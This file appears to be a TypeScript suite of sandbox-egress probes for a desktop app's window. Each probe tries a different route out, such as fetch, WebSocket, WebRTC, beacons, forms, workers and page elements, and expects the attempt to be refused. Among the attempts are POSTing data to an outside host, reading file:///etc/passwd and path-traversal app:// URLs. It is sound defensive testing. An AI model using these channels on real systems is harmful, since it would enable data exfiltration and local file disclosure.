/** Attempts to reach the network from the window's console. Functions are serialised. */
import type { Foreign } from './foreign';

/** One attempt by a script in the window, and its expected outcome. */
export interface Probe<Given = Foreign> {
  readonly name: string;
  readonly where?: 'page' | 'worker';
  readonly run: (given: Given) => unknown;
  readonly outcome: unknown;
}

const fetching = async ({ host, tcp }: Foreign): Promise<string[]> => {
  const said = (call: Promise<unknown>): Promise<string> =>
    call.then(
      () => 'sent',
      () => 'refused',
    );
  const body = 'rows';
  return Promise.all([
    said(fetch(`http://${host}:${tcp}/`)),
    said(fetch(`http://${host}:${tcp}/`, { method: 'POST', mode: 'no-cors', body })),
    said(fetch(`http://${host}:${tcp}/`, { method: 'POST', keepalive: true, body })),
    said(fetch('file:///etc/passwd')),
    said(fetch('app://kartotek/..%2f..%2fpackage.json')),
  ]);
};
const socket = ({ host, tcp }: Foreign): Promise<string> =>
  new Promise((done) => {
    try {
      const open = new WebSocket(`ws://${host}:${tcp}/`);
      open.onopen = () => done('open');
      open.onerror = () => done('refused');
    } catch {
      done('refused');
    }
  });
const importing = ({ host, tcp }: Foreign): Promise<string[]> =>
  Promise.all(
    [
      `http://${host}:${tcp}/a.js`,
      'data:text/javascript,export default 1',
      URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' })),
      'app://kartotek/..%2fmain/index.js',
    ].map((from) =>
      import(/* @vite-ignore */ from).then(
        () => 'run',
        () => 'refused',
      ),
    ),
  );

export const networkProbes: readonly Probe[] = [
  { name: 'fetch', run: fetching, outcome: Array.from({ length: 5 }, () => 'refused') },
  {
    name: 'fetch in the worker',
    where: 'worker',
    run: fetching,
    outcome: Array.from({ length: 5 }, () => 'refused'),
  },
  { name: 'WebSocket', run: socket, outcome: 'refused' },
  { name: 'WebSocket in the worker', where: 'worker', run: socket, outcome: 'refused' },
  { name: 'import', run: importing, outcome: Array.from({ length: 4 }, () => 'refused') },
  {
    name: 'XMLHttpRequest',
    run: ({ host, tcp }) =>
      new Promise((done) => {
        const request = new XMLHttpRequest();
        request.onload = () => done('sent');
        request.onerror = () => done('refused');
        request.open('GET', `http://${host}:${tcp}/`);
        request.send();
      }),
    outcome: 'refused',
  },
  {
    name: 'EventSource',
    run: ({ host, tcp }) =>
      new Promise((done) => {
        const source = new EventSource(`http://${host}:${tcp}/`);
        source.onopen = () => done('open');
        source.onerror = () => done(source.readyState === EventSource.CLOSED ? 'refused' : 'again');
      }),
    outcome: 'refused',
  },
  {
    name: 'WebTransport',
    run: ({ host, udp }) =>
      new WebTransport(`https://${host}:${udp}/`).ready.then(
        () => 'open',
        () => 'refused',
      ),
    outcome: 'refused',
  },
  {
    name: 'WebRTC',
    async run({ host, tcp, udp }) {
      const signed = { username: 'a', credential: 'b' };
      const connection = new RTCPeerConnection({
        iceServers: [
          { urls: `stun:${host}:${udp}` },
          { urls: [`turn:${host}:${udp}`, `turn:${host}:${tcp}?transport=tcp`], ...signed },
        ],
      });
      connection.createDataChannel('out');
      const gathered = new Promise((done) => {
        connection.onicegatheringstatechange = () => {
          if (connection.iceGatheringState === 'complete') done('nobody found');
        };
      });
      await connection.setLocalDescription(await connection.createOffer());
      return gathered;
    },
    outcome: 'nobody found',
  },
  {
    name: 'what a page loads',
    run: ({ host, tcp }) => {
      const address = `http://${host}:${tcp}/`;
      const load = (tag: string, fields: object): Promise<string> =>
        new Promise((done) => {
          const element = document.createElement(tag);
          element.addEventListener('load', () => done('loaded'));
          element.addEventListener('error', () => done('refused'));
          try {
            Object.assign(element, fields);
          } catch {
            done('refused');
          }
          document.body.append(element);
        });
      return Promise.all([
        load('img', { src: `${address}a.png` }),
        load('script', { src: `${address}a.js` }),
        load('link', { rel: 'stylesheet', href: `${address}a.css` }),
        load('audio', { src: `${address}a.mp3` }),
        load('video', { src: `${address}a.mp4` }),
        new FontFace('a', `url(${address}a.woff2)`).load().then(
          () => 'loaded',
          () => 'refused',
        ),
      ]);
    },
    outcome: Array.from({ length: 6 }, () => 'refused'),
  },
  {
    // These attempts report nothing. They have succeeded only if the outside address receives
    // something.
    name: 'hints, frames and styles',
    run({ host, tcp }) {
      const address = `http://${host}:${tcp}/`;
      const add = (tag: string, fields: object): void => {
        try {
          document.body.append(Object.assign(document.createElement(tag), fields));
        } catch {
          // The page's policy doesn't accept a string as a script address.
        }
      };
      for (const rel of ['prefetch', 'preconnect', 'dns-prefetch', 'modulepreload', 'prerender'])
        add('link', { rel, href: address });
      add('link', { rel: 'preload', as: 'fetch', href: address });
      for (const tag of ['iframe', 'embed']) add(tag, { src: address });
      add('object', { data: address });
      add('base', { href: address });
      add('meta', { httpEquiv: 'refresh', content: `0; url=${address}` });
      const rules = JSON.stringify({ prefetch: [{ source: 'list', urls: [address] }] });
      add('script', { type: 'speculationrules', textContent: rules });
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(
        `html { background: url(${address}a.png); cursor: url(${address}b), auto }`,
      );
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
      navigator.sendBeacon(address, 'rows');
      return document.baseURI;
    },
    outcome: 'app://kartotek/index.html',
  },
  {
    name: 'forms, links and addresses',
    run({ host, tcp }) {
      const address = `http://${host}:${tcp}/`;
      const form = Object.assign(document.createElement('form'), {
        action: address,
        method: 'post',
      });
      document.body.append(form);
      form.submit();
      const targets = [address, 'data:text/html,a', 'file:///etc/passwd', 'blob:app://kartotek/1'];
      for (const href of targets) {
        const link = Object.assign(document.createElement('a'), { href });
        link.ping = address;
        document.body.append(link);
        link.click();
        link.download = 'a.txt';
        link.click();
        location.href = href;
      }
      return location.href;
    },
    outcome: 'app://kartotek/index.html',
  },
  {
    name: 'windows',
    run: ({ host, tcp }) =>
      [`http://${host}:${tcp}/`, 'file:///etc/passwd', location.href, 'about:blank', ''].map(
        (address) => window.open(address) === null,
      ),
    outcome: Array.from({ length: 5 }, () => true),
  },
  {
    name: 'workers',
    run: ({ host, tcp }) => {
      const blob = URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }));
      const start = (make: () => Worker | SharedWorker): Promise<string> =>
        new Promise((done) => {
          try {
            const worker = make();
            worker.onerror = () => done('refused');
            if ('onmessage' in worker) worker.onmessage = () => done('run');
          } catch {
            done('refused');
          }
        });
      return Promise.all([
        start(() => new Worker(`http://${host}:${tcp}/a.js`)),
        start(() => new Worker('data:text/javascript,postMessage(1)')),
        start(() => new Worker(blob)),
        start(() => new SharedWorker(blob)),
        Promise.resolve()
          .then(() => navigator.serviceWorker.register('/assets/a.js'))
          .then(
            () => 'run',
            () => 'refused',
          ),
      ]);
    },
    outcome: Array.from({ length: 5 }, () => 'refused'),
  },
];
